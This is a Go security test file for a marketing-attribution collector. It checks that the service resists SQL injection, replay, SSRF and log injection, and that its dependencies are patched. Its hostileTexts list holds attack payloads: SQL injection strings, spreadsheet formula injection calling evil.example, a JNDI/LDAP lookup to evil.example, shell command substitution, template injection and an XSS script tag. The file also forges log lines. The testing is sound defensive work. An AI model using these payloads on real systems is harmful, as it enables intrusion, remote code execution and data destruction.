package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/uuid"
)

// hostileTexts are what strangers write where a source, a form's field or a company is expected.
var hostileTexts = []string{
	`'; DROP TABLE touches; --`, `' OR '1'='1`, `\'; SELECT 1 --`, `"quoted" and 'quoted'`, `back\slash\\es\n\t\0`, "tab\tand\nline\r\nbreaks", "{site:String}", `%27%3B--`, "\\N", "NULL",
	"=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\u202eright to left", "$(id) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", "<script>alert(1)</script>",
}

// TestSecuritySQLInjection: hostile text comes back from the tables as it was sent, through a touch, a form and an import, in a
// report and in an export; imported again, from an export, it is the same once more. The tables are all there.
func TestSecuritySQLInjection(t *testing.T) {
	t.Parallel()
	r := startRig(t)
	r.migratedUp(t)
	visitor := uuid.NewString()
	var rows bytes.Buffer
	for i, text := range hostileTexts {
		touch, _ := json.Marshal(map[string]any{"site_id": "acme", "visitor_id": visitor, "touch_id": uuid.NewString(), "utm_source": "s", "utm_campaign": text, "referrer": "https://evil.example/" + text})
		r.post(t, "/t", "text/plain", string(touch), http.StatusNoContent)
		r.postForm(t, "/f/signup?site=acme", url.Values{"email": {adaMail}, "say": {text}, "hw_visitor_id": {visitor}, "n": {strconv.Itoa(i)}}.Encode())
		row, _ := json.Marshal(map[string]string{"email": fmt.Sprintf("p%d@example.com", i), "crm_id": text, "company_crm_id": text, "company_name": text})
		rows.Write(append(row, '\n'))
	}
	r.call(t, "POST", "/api/contacts", "application/x-ndjson", rows.String(), http.StatusOK)
	r.forwarded(t)
	exported := r.export(t, `{"email":"`+adaMail+`"}`)
	has := func(table, column, text string) bool {
		for _, row := range exported[table] {
			if row[column] == text {
				return true
			}
		}
		return false
	}
	for i, text := range hostileTexts {
		if !has("touches", "utm_campaign", text) || !has("submission_fields", "value", text) {
			t.Errorf("%q is not in the export", text)
		}
		if i%5 == 0 {
			r.importAgain(t, i)
		}
		path := []string{"source_breakdown?by=", "source_breakdown?zone=", "company_card?company=", "contact_card?contact=", "suspects?reason=", "totals?from="}[i%6]
		answer, body := r.asAsk(t, ask{http.MethodGet, "/api/reports/" + path + url.QueryEscape(text), "", ""}, caller{authorization: "Bearer " + r.key})
		if answer.StatusCode != http.StatusOK && answer.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s%q: %s %s", path, text, answer.Status, body)
		}
	}
	r.forwarded(t)
	if n := r.count(t, "SELECT count() FROM contacts FINAL WHERE site_id = 'acme'"); n != uint64(len(hostileTexts)) {
		t.Errorf("%d contacts, not %d: what was exported and imported again is another", n, len(hostileTexts))
	}
	r.wantCSV(t)
}

// importAgain imports the nth person with what an export says, which must be what was imported.
func (r *rig) importAgain(t *testing.T, n int) {
	t.Helper()
	email := fmt.Sprintf("p%d@example.com", n)
	contacts := r.export(t, `{"email":"`+email+`"}`)["contacts"]
	if len(contacts) != 1 || contacts[0]["crm_id"] != hostileTexts[n] {
		t.Fatalf("the export of %s has %v, not %q", email, contacts, hostileTexts[n])
	}
	again, err := json.Marshal(map[string]any{"email": email, "crm_id": contacts[0]["crm_id"], "company_crm_id": contacts[0]["crm_id"], "company_name": contacts[0]["crm_id"]})
	if err != nil {
		t.Fatal(err)
	}
	r.call(t, "POST", "/api/contacts", "application/json", string(again), http.StatusOK)
}

// wantCSV wants a file in which no cell is a formula, and in which every campaign is nevertheless found.
func (r *rig) wantCSV(t *testing.T) {
	t.Helper()
	body := r.call(t, "GET", "/api/reports/source_breakdown?by=campaign&format=csv&data_point=first_touch", "", "", http.StatusOK)
	cells, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(cells) < 2 {
		t.Fatalf("%v: %s", err, body)
	}
	for _, row := range cells[1:] {
		if strings.ContainsAny(row[0][:1], "=+-@\t\r\n\x00") {
			t.Errorf("a formula: %q", row[0])
		}
	}
}

// TestSecurityReplay: one touch and one form, caught and sent a thousand times, are one row each.
func TestSecurityReplay(t *testing.T) {
	t.Parallel()
	r := startRig(t)
	r.migratedUp(t)
	form := `{"site_id":"acme","submission_id":"0195a000-0000-7000-8000-00000000cccc","fields":{"email":"ada@example.com"},"latest_touch":{"utm_source":"linkedin"}}`
	for i := range 1000 {
		r.post(t, "/t", "text/plain", touchBody, http.StatusNoContent)
		if i%10 == 0 { // forms are the dearer ones
			r.post(t, "/f/signup", "application/json", form, http.StatusOK)
		}
		if i%250 == 0 {
			r.forwarded(t)
		}
	}
	r.forwarded(t)
	for _, table := range []string{"touches", "submissions", "submission_fields"} {
		if n := r.count(t, "SELECT count() FROM "+table+" FINAL WHERE site_id = 'acme'"); n != 1 {
			t.Errorf("%d rows of %s", n, table)
		}
	}
	if n := r.breakdown(t, "acme").leads("linkedin"); n != 1 {
		t.Errorf("%d leads", n)
	}
}

// TestSecuritySSRF: whatever address a stranger or a holder of a key sends, the collector calls nobody. There are no webhooks.
func TestSecuritySSRF(t *testing.T) {
	trap, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = trap.Close() }()
	var called atomic.Int64
	go func() {
		for {
			conn, err := trap.Accept()
			if err != nil {
				return
			}
			called.Add(1)
			_ = conn.Close()
		}
	}()
	r := startAlone(t)
	for _, scheme := range []string{"http://", "https://", "ftp://", "gopher://", "//"} {
		at := scheme + trap.Addr().String() + "/x"
		values := url.Values{"site": {"acme"}, "email": {adaMail}}
		for _, name := range []string{"url", "webhook", "callback", "page", "avatar", "_next", "hw_redirect", "hw_page", "landing_page", "referrer", "hw_first_touch_referrer", "hw_latest_touch_landing_page", "next", "back", "company"} {
			values.Set(name, at)
		}
		r.postForm(t, "/f/signup?"+values.Encode(), values.Encode())
		r.tellAll(t, "POST", "/t", "text/plain", `{"site_id":"acme","touch_id":"`+uuid.NewString()+`","referrer":"`+at+`","landing_page":"`+at+`"}`)
		for _, route := range r.routes(t) {
			for _, a := range asksOf(route, url.PathEscape(at), "x") {
				a.target += map[bool]string{true: "&", false: "?"}[strings.Contains(a.target, "?")] + values.Encode()
				r.asAsk(t, a, caller{authorization: "Bearer " + r.key})
			}
		}
		r.call(t, "POST", "/api/companies", "application/x-ndjson", `{"name":"x","domain":"`+trap.Addr().String()+`"}`+"\n"+`{"name":"y"}`, http.StatusOK)
	}
	if n := called.Load(); n > 0 {
		t.Errorf("the collector called the address %d times", n)
	}
	if conn, err := net.Dial("tcp", trap.Addr().String()); err != nil { // the trap works
		t.Error(err)
	} else {
		_ = conn.Close()
	}
	wantNoCallsOut(t)
}

// wantNoCallsOut reads the code: only the ways to ClickHouse and Redis, the command that talks to the running collector, and the
// doctor, whose dialer refuses what is not public (collector/doctor, TestSecurityDoctor…), open connections. Who adds another must
// think of what may be called, and say so here.
func wantNoCallsOut(t *testing.T) {
	t.Helper()
	mayCall := map[string]bool{"operate.go": true, "doctor": true, "store": true, "visitors": true, "collectortest": true}
	out := map[string]bool{"http.Get": true, "http.Post": true, "http.PostForm": true, "http.Head": true, "http.Client": true, "http.DefaultClient": true, "http.NewRequest": true, "http.NewRequestWithContext": true,
		"http.Transport": true, "net.Dial": true, "net.DialTimeout": true, "net.Dialer": true, "tls.Dial": true, "smtp.SendMail": true, "httputil.ReverseProxy": true, "net.LookupHost": true, "net.DefaultResolver": true}
	err := filepath.WalkDir(".", func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || mayCall[strings.Split(filepath.ToSlash(path), "/")[0]] || strings.Contains(path, "corpus") {
			return err
		}
		file, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			return err
		}
		ast.Inspect(file, func(node ast.Node) bool {
			if selector, ok := node.(*ast.SelectorExpr); ok {
				if of, ok := selector.X.(*ast.Ident); ok && out[of.Name+"."+selector.Sel.Name] {
					t.Errorf("%s uses %s.%s", path, of.Name, selector.Sel.Name)
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

// TestSecurityLogInjection: whatever strangers send, each line of the log is one of ours, and holds no character that a terminal obeys.
func TestSecurityLogInjection(t *testing.T) {
	for _, format := range []string{"text", "json"} {
		r := &rig{}
		r.config, r.key = testConfig(t, "http://127.0.0.1:1/default", "redis://127.0.0.1:1/0")
		r.config.LogLevel, r.config.LogFormat = "debug", format
		var written lockedBuffer
		log, err := newLog(&written, r.config)
		if err != nil {
			t.Fatal(err)
		}
		r.startWith(t, log)
		for _, end := range []string{"\n", "\r\n", "\r", "\u2028", "\u0085", "\x1b[2J", "\x00", "\"", "\\"} {
			forged := end + `time=2026-01-01T00:00:00Z level=INFO msg="forged"`
			r.tellAll(t, "POST", "/f/signup?site="+url.QueryEscape("acme"+forged), "application/x-www-form-urlencoded", "a="+url.QueryEscape(forged))
			r.tellAll(t, "POST", "/f/"+url.PathEscape("x"+forged), "application/json", `{"fields":`+strconv.Quote(forged)+`}`)
			r.tellAll(t, "GET", "/api/reports/"+url.PathEscape("totals"+forged), "", "")
			r.asAsk(t, ask{"GET", "/api/reports/totals?zone=" + url.QueryEscape(forged), "", ""}, caller{authorization: "Bearer " + r.key})
			r.asAsk(t, ask{"GET", "/api/erasures/" + url.PathEscape(forged), "", ""}, caller{authorization: "Bearer " + r.key})
			r.asAsk(t, ask{"POST", "/api/reports/company_card", "application/x-www-form-urlencoded", "company=" + url.QueryEscape(forged)}, caller{authorization: "Bearer " + r.key})
			rawAnswers(t, r.Addr().String(), "GET /"+strings.ReplaceAll(forged, " ", "+")+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
		}
		r.stop(t)
		lines := 0
		for line := range strings.Lines(written.String()) {
			lines++
			start := map[string]string{"text": "time=20", "json": `{"time":"20`}[format]
			if !strings.HasPrefix(line, start) || strings.HasPrefix(line, `time=2026-01-01T00:00:00Z level=INFO msg="forged"`) || strings.ContainsAny(line, "\r\x1b\x00\u2028\u0085") {
				t.Errorf("%s: a line of the log: %q", format, line)
			}
		}
		if lines < 10 {
			t.Errorf("%s: only %d lines: the strangers reached nothing that logs", format, lines)
		}
	}
}

// TestSecurityDependencies: versions in which published holes are mended (security.md of the project names them).
func TestSecurityDependencies(t *testing.T) {
	least := map[string][3]int{
		"github.com/redis/go-redis/v9":  {9, 7, 3},  // CVE-2025-29923: answers out of order
		"github.com/labstack/echo/v4":   {4, 16, 0}, // GHSA-2ffq-g2xg-c22p: scheme by header
		"golang.org/x/net":              {0, 38, 0}, // CVE-2025-22872
		"github.com/andybalholm/brotli": {1, 0, 0},
	}
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Path}} {{.Version}}{{.GoVersion}}", "all").Output()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for line := range strings.Lines(string(out)) {
		path, version, _ := strings.Cut(strings.TrimSpace(line), " ")
		want, asked := least[path]
		if !asked {
			continue
		}
		found++
		var have [3]int
		if _, err := fmt.Sscanf(version, "v%d.%d.%d", &have[0], &have[1], &have[2]); err != nil || older(have, want) {
			t.Errorf("%s is %s, which is older than %v", path, version, want)
		}
	}
	if found != len(least) {
		t.Errorf("%d of %d modules are there", found, len(least))
	}
	out, err = exec.Command("go", "env", "GOVERSION").Output()
	var have [3]int
	if n, _ := fmt.Sscanf(string(out), "go%d.%d.%d", &have[0], &have[1], &have[2]); err != nil || n < 2 || older(have, [3]int{1, 24, 2}) { // CVE-2025-22871: chunks that end in a bare LF
		t.Errorf("Go is %s", out)
	}
}

func older(a, b [3]int) bool {
	for i := range a {
		if a[i] != b[i] {
			return a[i] < b[i]
		}
	}
	return false
}
